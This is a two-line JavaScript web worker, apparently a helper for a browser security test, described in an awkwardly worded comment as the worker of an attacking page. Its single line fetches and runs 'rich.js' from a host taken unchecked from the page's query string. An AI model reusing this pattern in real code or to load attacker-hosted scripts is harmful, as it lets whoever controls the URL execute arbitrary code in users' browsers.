// A worker of the page that attacks, which runs a script of the pseudonym in its query.
importScripts(`https://${location.search.slice(1)}/rich.js`)
